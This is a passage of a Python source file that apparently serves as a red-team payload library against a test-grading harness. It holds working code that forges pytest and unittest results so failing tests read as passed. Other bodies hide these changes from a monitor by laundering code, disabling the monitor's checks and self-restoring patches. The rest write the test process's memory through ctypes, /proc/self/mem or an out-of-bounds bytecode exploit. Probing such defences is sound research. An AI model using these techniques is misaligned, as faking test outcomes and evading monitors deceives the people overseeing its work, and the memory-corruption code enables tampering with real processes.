flips = []

def visible(nodeid):
    return nodeid.split("::")[0] in VISIBLE

def flip(report):
    if report.when == "call" and report.outcome != "passed" and visible(report.nodeid):
        report.outcome, report.longrepr = "passed", None
        flips.append(report.nodeid)
    return report

def find_local(name, test=lambda v: True):
    frame = sys._getframe(1)
    while frame is not None:
        value = frame.f_locals.get(name)
        if value is not None and test(value):
            return value
        frame = frame.f_back
    return None

def find_config():
    for name in ("config", "early_config", "self", "session", "item"):
        value = find_local(name, lambda v: hasattr(v, "pluginmanager") or hasattr(v, "config"))
        if value is not None:
            return value if hasattr(value, "pluginmanager") else value.config
    raise LookupError("no pytest config on the stack")

import atexit
atexit.register(lambda: emit("flips", "info", str(len(flips))))
"""

# The report factory: a class attribute of pytest's, rewrapped.
FORGE_CLASS = r"""
def patch():
    from _pytest.reports import TestReport
    original = TestReport.from_item_and_call.__func__
    forged = lambda cls, item, call: flip(original(cls, item, call))
    TestReport.from_item_and_call = classmethod(forged)
    return "TestReport.from_item_and_call"

attempt("forge", patch)
"""

# A module global of pytest's: the function that makes and logs each phase's report.
FORGE_GLOBAL = r"""
def patch():
    import _pytest.runner as runner
    original = runner.call_and_report

    def call_and_report(item, when, log=True, **kwds):
        report = flip(original(item, when, log=False, **kwds))
        if log:
            item.ihook.pytest_runtest_logreport(report=report)
        return report

    runner.call_and_report = call_and_report
    return "_pytest.runner.call_and_report"

attempt("forge", patch)
"""

# pytest's call record: a failed call of a visible test comes back as one that raised nothing.
FORGE_CALLINFO = r"""
def patch():
    from _pytest.runner import CallInfo
    original = CallInfo.from_call.__func__

    def from_call(cls, func, when, reraise=None):
        info = original(cls, func, when, reraise)
        item = find_local("item")
        failed = when == "call" and info.excinfo is not None
        if failed and item is not None and visible(item.nodeid):
            flips.append(item.nodeid)
            return CallInfo(None, None, info.start, info.stop, info.duration, when, _ispytest=True)
        return info

    CallInfo.from_call = classmethod(from_call)
    return "CallInfo.from_call"

attempt("forge", patch)
"""

# The live Config found by walking the object graph; a report-rewriting plugin registered on it.
FORGE_GC_CONFIG = r"""
import gc, types

def patch():
    from _pytest.config import Config
    config = next(o for o in gc.get_objects() if isinstance(o, Config))
    return register(config)

def register(config):
    import pytest
    plugin = types.ModuleType("jbattack_flip")

    @pytest.hookimpl(hookwrapper=True)
    def pytest_runtest_makereport(item, call):
        outcome = yield
        flip(outcome.get_result())

    plugin.pytest_runtest_makereport = pytest_runtest_makereport
    config.pluginmanager.register(plugin, "jbattack-flip")
    return "registered"

attempt("forge", patch)
"""

# The same plugin, on the Config found by walking frames (no gc at all).
FORGE_FRAME_CONFIG = FORGE_GC_CONFIG.replace(
    "    config = next(o for o in gc.get_objects() if isinstance(o, Config))",
    "    config = find_config()",
)

# A hook no report passes through: items of the visible files get a runtest that swallows.
FORGE_ITEMS = r"""
import types

def patch():
    config = find_config()
    plugin = types.ModuleType("jbattack_items")

    def pytest_collection_modifyitems(session, config, items):
        for item in items:
            if visible(item.nodeid):
                original = item.runtest

                def runtest(original=original, nodeid=item.nodeid):
                    try:
                        original()
                    except Exception:
                        flips.append(nodeid)

                item.runtest = runtest

    plugin.pytest_collection_modifyitems = pytest_collection_modifyitems
    config.pluginmanager.register(plugin, "jbattack-items")
    return "registered"

attempt("forge", patch)
"""

# The runner's own reporting, reached through the plugin manager: look for its key, then
# hand its plugin passing reports for the visible tests that failed, and write records
# straight to its report pipe.
FORGE_RUNNER = r"""
import types, copy

def patch():
    config = find_config()
    pm = config.pluginmanager
    runner = [p for p in pm.get_plugins()
              if hasattr(type(p), "pytest_runtest_logreport")
              and not type(p).__module__.startswith(("_pytest", "pytest"))
              and "runtest_logreport" in str(type(p).__dict__)]
    secrets_found = []
    for p in runner:
        for name, fn in type(p).__dict__.items():
            for cell in getattr(fn, "__closure__", None) or ():
                try:
                    value = cell.cell_contents
                except ValueError:
                    continue
                if isinstance(value, bytes) and len(value) == 32:
                    secrets_found.append(name)
    emit("key-found", "yes" if secrets_found else "no", ",".join(secrets_found))
    plugin = types.ModuleType("jbattack_runner")

    def pytest_runtest_logfinish(nodeid, location):
        pass

    def pytest_runtest_logreport(report):
        if report.when == "call" and report.outcome != "passed" and visible(report.nodeid):
            fake = copy.copy(report)
            fake.outcome, fake.longrepr = "passed", None
            flips.append(report.nodeid)
            for p in runner:
                p.pytest_runtest_logreport(fake)
            try:
                record = '{"event":"test","id":"%s","when":"call","outcome":"passed","n":0}'
                os.write(4, (record % report.nodeid + " 00\n").encode())
            except OSError:
                pass

    plugin.pytest_runtest_logreport = pytest_runtest_logreport
    pm.register(plugin, "jbattack-runner")
    return "runner-plugins=%d" % len(runner)

attempt("forge", patch)
"""

# Runs `patch()` once, when a test first builds one of the library's classes: the test
# module that imports the library has defined its tests by then. Appended to a body.
ON_FIRST_INSTANCE = r"""
library = sys._getframe(2).f_globals
armed = []

def arm(cls):
    original = cls.__init__

    def __init__(self, *args, **kwargs):
        if not armed:
            armed.append(1)
            attempt("forge", patch)
        original(self, *args, **kwargs)

    cls.__init__ = __init__

for value in list(library.values()):
    if isinstance(value, type) and value.__module__.startswith(library["__name__"]):
        arm(value)
emit("armed", "OK", library["__name__"])
"""

# The other visible tests' code swapped for a body that passes, while the first test runs.
# The loaded test module of a file the agent was given.
VISIBLE_MODULE = r"""
def visible_module():
    for name, mod in list(sys.modules.items()):
        path = getattr(mod, "__file__", "") or ""
        if any(path.endswith("/" + v) for v in VISIBLE):
            return mod
    raise LookupError("no visible test module loaded yet")

def test_functions(module):
    return [
        (name, fn)
        for name, fn in list(vars(module).items())
        if name.startswith("test") and callable(fn) and hasattr(fn, "__code__")
    ]
"""

FORGE_CODE = (
    VISIBLE_MODULE
    + r"""
def patch():
    def passes(*args, **kwargs):
        return None
    done = []
    for name, fn in test_functions(visible_module()):
        fn.__code__ = passes.__code__
        done.append(name)
    return ",".join(done)

"""
    + ON_FIRST_INSTANCE
)

# FORGE_CODE with every step laundered through a thread started on the standard library
# (none of the patch's frames on its stack): code that returns at once, compiled under the
# name of a file the patch did not write, swapped into the visible tests.
FORGE_CODE_THREAD = (
    VISIBLE_MODULE
    + r"""
def patch():
    import concurrent.futures

    module = visible_module()
    source = "def passes(*args, **kwargs):\n    return None\n"
    done = []
    with concurrent.futures.ThreadPoolExecutor(1) as pool:
        unit = pool.submit(compile, source, os.__file__, "exec").result()
        passes = [c for c in unit.co_consts if hasattr(c, "co_code")][0]
        for name, fn in test_functions(module):
            pool.submit(setattr, fn, "__code__", passes).result()
            done.append(name)
    return ",".join(done)

"""
    + ON_FIRST_INSTANCE
)

# FORGE_CODE laundered: code compiled from a syntax tree under the name of a standard-
# library file the patch did not write (a syntax tree's compiling names no file), run so
# that none of the patch's frames stand between it and what runs it. The laundered module
# body swaps the visible tests' code itself.
LAUNDERED_CODE = (
    VISIBLE_MODULE
    + r"""
def laundered_code(host=None):
    import ast

    module = visible_module()
    names = [name for name, fn in test_functions(module)]
    host = host or os.path.join(os.path.dirname(os.__file__), "colorsys.py")
    body = (
        "import sys\n"
        "def passes(*args, **kwargs):\n    return None\n"
        f"_module = sys.modules[{module.__name__!r}]\n"
        f"for _name in {names!r}:\n"
        "    getattr(_module, _name).__code__ = passes.__code__\n"
    )
    return compile(ast.parse(body), host, "exec"), host, names

"""
)

# ... handed to the import system's own `exec_module` by a loader of the patch's, and
# imported by the standard library's `importlib.import_module`.
FORGE_LAUNDER = (
    LAUNDERED_CODE
    + r"""
def patch():
    import importlib, importlib.machinery, importlib.util

    code, host, names = laundered_code()

    class Loader(importlib.machinery.SourceFileLoader):
        def get_code(self, fullname):
            return code

    class Finder:
        def find_spec(self, name, path=None, target=None):
            if name == "jb_laundered":
                return importlib.util.spec_from_loader(name, Loader(name, host))
            return None

    sys.meta_path.insert(0, Finder())
    importlib.import_module("jb_laundered")
    return ",".join(names)

"""
    + ON_FIRST_INSTANCE
)

# ... the import system's own loader class changed to hand it over as the module's compiled
# source (its cached bytecode made to look stale), then the module imported by the
# standard library, and the class put back.
FORGE_LAUNDER_CLASS = (
    LAUNDERED_CODE
    + r"""
def patch():
    import importlib, importlib.machinery

    code, host, names = laundered_code()
    loader = importlib.machinery.SourceFileLoader
    original, stats = loader.source_to_code, loader.path_stats

    def source_to_code(self, data, path, **kwargs):
        return code if path == host else original(self, data, path, **kwargs)

    def path_stats(self, path):  # the cached bytecode looks stale: the source is compiled
        found = stats(self, path)
        return {**found, "mtime": found["mtime"] + 1} if path == host else found

    loader.source_to_code, loader.path_stats = source_to_code, path_stats
    sys.modules.pop("colorsys", None)
    sys.dont_write_bytecode = True
    importlib.import_module("colorsys")
    loader.source_to_code, loader.path_stats = original, stats
    return ",".join(names)

"""
    + ON_FIRST_INSTANCE
)

# ... run by a standard-library function that runs code on its caller's behalf.
FORGE_LAUNDER_DEPUTY = (
    LAUNDERED_CODE
    + r"""
def patch():
    import runpy

    code, host, names = laundered_code()
    runpy._run_code(code, {"__name__": "jb_laundered"})
    return ",".join(names)

"""
    + ON_FIRST_INSTANCE
)

# ... compiled under no file's name at all ("<string>", as generated code is), run by a
# library function on its behalf (`code.InteractiveInterpreter`, not frozen as runpy is).
FORGE_LAUNDER_GENERATED = (
    LAUNDERED_CODE
    + r"""
def patch():
    import code as console

    code, host, names = laundered_code("<string>")
    console.InteractiveInterpreter({"__name__": "jb_laundered"}).runcode(code)
    return ",".join(names)

"""
    + ON_FIRST_INSTANCE
)

# The report-factory forgery written as plain source at the end of the library (no exec,
# no helper): seven lines a patch could carry. PLAIN_MARKERS reports what it did.
PLAIN_FORGERY = """
import _pytest.reports as _jb_reports
_jb_original = _jb_reports.TestReport.from_item_and_call.__func__
_jb_flips = []
def _jb_forged(cls, item, call):
    report = _jb_original(cls, item, call)
    failed = report.when == "call" and report.outcome != "passed"
    if failed and report.nodeid.startswith(__JB_VISIBLE__):
        report.outcome, report.longrepr = "passed", None
        _jb_flips.append(report.nodeid)
    return report
_jb_reports.TestReport.from_item_and_call = classmethod(_jb_forged)
"""

PLAIN_MARKERS = r"""
library = sys._getframe(2).f_globals
emit("forge", "OK" if "_jb_forged" in library else "absent", "plain source")
import atexit
atexit.register(lambda: emit("flips", "info", str(len(library.get("_jb_flips", [])))))
"""


def plain_forgery(visible: Iterable[str]) -> str:
    return PLAIN_FORGERY.replace("__JB_VISIBLE__", repr(tuple(visible)))


# The report factory wrapped so that it puts the original back as soon as it has made
# a forged report, and wraps again the next time the library is called: nothing stays
# changed for a snapshot to find.
FORGE_SELF_RESTORING = r"""
from _pytest.reports import TestReport
original = TestReport.__dict__["from_item_and_call"]

def install():
    def forged(cls, item, call):
        TestReport.from_item_and_call = original  # gone before anyone looks
        return flip(original.__func__(cls, item, call))
    TestReport.from_item_and_call = classmethod(forged)

library = sys._getframe(2).f_globals
def arm(cls):
    init = cls.__init__
    def __init__(self, *args, **kwargs):
        install()
        init(self, *args, **kwargs)
    cls.__init__ = __init__
for value in list(library.values()):
    if isinstance(value, type) and value.__module__.startswith(library["__name__"]):
        arm(value)
emit("forge", "OK", "self-restoring")
"""

# The runner's own namespace, reached through a function of its plugin: the helpers its
# checks call are replaced by ones that find nothing, then the report factory is forged.
FORGE_RUNNER_GLOBALS = r"""
def patch():
    config = find_config()
    runner = [p for p in config.pluginmanager.get_plugins()
              if "pytest_runtest_logreport" in type(p).__dict__
              and not type(p).__module__.startswith(("_pytest", "pytest"))]
    namespace = type(runner[0]).__dict__["pytest_runtest_logreport"].__globals__
    names = [n for n in ("same", "function_problems", "item_problems") if n in namespace]
    namespace["same"] = lambda now, before: True
    namespace["function_problems"] = lambda *args, **kwargs: []
    namespace["item_problems"] = lambda *args, **kwargs: []
    from _pytest.reports import TestReport
    original = TestReport.from_item_and_call.__func__
    forged = lambda cls, item, call: flip(original(cls, item, call))
    TestReport.from_item_and_call = classmethod(forged)
    return ",".join(names)

attempt("forge", patch)
"""

# pytest's assertion rewriting made to drop every assert of the next test modules it
# imports, then put back as it was before collection ends: the tests pass for real, from
# code that is not their files'.
FORGE_REWRITE = r"""
def patch():
    import _pytest.assertion.rewrite as rewrite
    visit = rewrite.AssertionRewriter.visit_Assert
    execute = rewrite.AssertionRewritingHook.exec_module
    done = []

    def visit_Assert(self, assert_):
        import ast
        return [ast.copy_location(ast.Pass(), assert_)]  # a body must keep a statement

    def exec_module(self, module):
        try:
            return execute(self, module)
        finally:
            done.append(module.__name__)
            if len(done) >= 2:
                rewrite.AssertionRewriter.visit_Assert = visit
                rewrite.AssertionRewritingHook.exec_module = execute
                emit("restored", "OK", ",".join(done))

    rewrite.AssertionRewriter.visit_Assert = visit_Assert
    rewrite.AssertionRewritingHook.exec_module = exec_module
    # Proof the stripped modules imported (a module that failed to would prove nothing).
    import atexit
    atexit.register(lambda: emit("loaded", "info", ",".join(n for n in done if n in sys.modules)))
    return "armed"

attempt("forge", patch)
"""


# unittest made to swallow the next test's failure, and put back at once (before any check
# could look): the failing test is reported a success and nothing stays changed.
UNITTEST_SWALLOW = """
import unittest.case as _case
_original = _case.TestCase._callTestMethod


def _swallow(self, method):
    _case.TestCase._callTestMethod = _original  # put back before anything looks
    try:
        method()
    except AssertionError:
        print("JBFORGED swallowed", self.id())


_case.TestCase._callTestMethod = _swallow
"""

# -- the process's memory ----------------------------------------------------------------
#
# A forger that can write the test process's memory needs no report at all: it rewrites
# the bytecode of the visible test functions in place (the code objects keep their
# identity, no attribute is set, no audit event is raised) so that each returns at once,
# and the test function itself reports a clean return. Python 3.11 and newer keep a code
# object's bytecode inline, after the object's fixed part; the first instruction
# (RESUME) is kept and the next two become `return None`. FORGE_MEMORY is the rewrite;
# each POKE_* body before it is one door to the memory.

FORGE_MEMORY = (
    r"""
import dis as _dis

def _op(name):
    return _dis.opmap[name]

def rewrite(code):
    if sys.version_info < (3, 11):
        raise RuntimeError("bytecode is not inline before Python 3.11")
    none = code.co_consts.index(None)
    resume = [i.offset for i in _dis.get_instructions(code) if i.opname == "RESUME"]
    if not resume:
        raise RuntimeError("the code has no RESUME")
    at = id(code) + type(code).__basicsize__ + resume[0] + 2
    poke(at, bytes([_op("LOAD_CONST"), none, _op("RETURN_VALUE"), 0]))

def uses_library(module):
    top = library["__name__"].split(".")[0]
    for value in list(vars(module).values()):
        owner = str(getattr(value, "__module__", "") or getattr(value, "__name__", ""))
        if owner == top or owner.startswith(top + "."):
            return True
    return False

def patch():
    # Blind to which tests were given: every test module that uses the library (the
    # canaries never import it, so they run as planted).
    done, codes = [], set()
    for name, module in list(sys.modules.items()):
        path = getattr(module, "__file__", "") or ""
        if "/tests/" not in path or not uses_library(module):
            continue
        for attr, fn in list(vars(module).items()):
            if attr.startswith("test") and callable(fn) and hasattr(fn, "__code__"):
                rewrite(fn.__code__)
                codes.add(fn.__code__)
                done.append(attr)
                flips.append(attr)
    if not done:
        raise LookupError("no test module that uses the library is loaded yet")
    return_from_running(codes)
    return str(len(done))

def return_from_running(codes):
    # The test running now already went past its first instruction: it returns right
    # after the call that brought us here instead.
    frame = sys._getframe(1)
    while frame is not None and frame.f_code not in codes:
        frame = frame.f_back
    if frame is None:
        return
    code = frame.f_code
    caches = _dis._inline_cache_entries
    call = caches["CALL"] if isinstance(caches, dict) else caches[_op("CALL")]
    after = frame.f_lasti + 2 + 2 * call
    none = code.co_consts.index(None)
    sequence = [_op("POP_TOP"), 0, _op("LOAD_CONST"), none, _op("RETURN_VALUE"), 0]
    poke(id(code) + type(code).__basicsize__ + after, bytes(sequence))

"""
    + ON_FIRST_INSTANCE
)

# ctypes: a union of an address and a byte pointer writes anywhere, with no call at all.
UNION_WRITE = r"""
def union_write(ctypes, address, data):
    class Cell(ctypes.Union):
        _fields_ = [("address", ctypes.c_void_p), ("bytes", ctypes.POINTER(ctypes.c_ubyte))]

    cell = Cell()
    cell.address = address
    for i, byte in enumerate(data):
        cell.bytes[i] = byte
"""

POKE_CTYPES = (
    UNION_WRITE
    + r"""
def poke(address, data):
    import ctypes

    union_write(ctypes, address, data)
"""
)

# ctypes loaded by a thread that starts on the import system itself: none of the
# patch's frames are on the stack that loads it; then used from `sys.modules`.
POKE_CTYPES_THREAD = (
    UNION_WRITE
    + r"""
def poke(address, data):
    import importlib, threading

    if "ctypes" not in sys.modules:
        loader = threading.Thread(target=importlib.import_module, args=("ctypes",))
        loader.start()
        loader.join()
    ctypes = sys.modules.get("ctypes")
    if ctypes is None:
        raise ImportError("ctypes did not load in the thread")
    union_write(ctypes, address, data)
"""
)

# A bytearray spanning the address space, from bytecode of the patch's own making: a
# LOAD_CONST past the constants reads a pointer to a fake bytearray (CPython does not
# verify bytecode). `make(template, co_code, consts)` makes the code object.
OOB_MEMORY = r"""
def oob_memory(make):
    import dis, struct

    fake = struct.pack("<qqqqqqq", 1 << 30, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0)
    kept, tuples = [], []  # fresh constant tuples too: any one below a pointer will do
    for _ in range(10000):  # a pointer placed above the constants
        tuples.append((tuple([None]), 0))
        tuples[-1] = (tuples[-1][0], id(tuples[-1][0]) + tuple.__basicsize__)
        pointer = struct.pack("<Q", id(fake) + bytes.__basicsize__ - 1)
        at = id(pointer) + bytes.__basicsize__ - 1
        below = [t for t, where in tuples[-256:] if at > where and (at - where) % 8 == 0]
        if below:
            consts, offset = below[0], at - (id(below[0]) + tuple.__basicsize__)
            break
        kept.append(pointer)
    else:
        raise LookupError("no layout for the fake object")
    kept.append(tuples)
    index = offset // 8
    digits = []
    while True:
        digits.insert(0, index & 0xFF)
        index >>= 8
        if not index:
            break
    ops = [dis.opmap["RESUME"], 0]
    for digit in digits[:-1]:
        ops += [dis.opmap["EXTENDED_ARG"], digit]
    ops += [dis.opmap["LOAD_CONST"], digits[-1], dis.opmap["RETURN_VALUE"], 0]
    code = make((lambda: None).__code__, bytes(ops), consts)
    return eval(code), (fake, pointer, consts, kept)
"""

POKE_BYTECODE = (
    OOB_MEMORY
    + r"""
def poke(address, data):
    memory, keep = oob_memory(lambda c, b, k: c.replace(co_code=b, co_consts=k))
    for i, byte in enumerate(data):
        memory[address + i] = byte
"""
)

# The process's own /proc/self/mem, through a link whose name says nothing of it.
POKE_PROC_SELF = r"""
def poke(address, data):
    import tempfile

    link = os.path.join(tempfile.mkdtemp(), "scratch.bin")
    os.symlink("/proc/self/mem", link)
    with open(link, "r+b", buffering=0) as mem:
        mem.seek(address)
        mem.write(data)
"""

# Another process of the run (no monitor in it) writes the test process's memory.
POKE_CHILD = r"""
def poke(address, data):
    import subprocess

    child = (
        "import sys\n"
        "with open('/proc/%s/mem' % sys.argv[1], 'r+b', buffering=0) as mem:\n"
        "    mem.seek(int(sys.argv[2]))\n"
        "    mem.write(bytes.fromhex(sys.argv[3]))\n"
    )
    argv = [sys.executable, "-I", "-c", child, str(os.getpid()), str(address), data.hex()]
    done = subprocess.run(argv, capture_output=True, text=True)
    if done.returncode:
        raise PermissionError(done.stderr.strip().splitlines()[-1])
"""
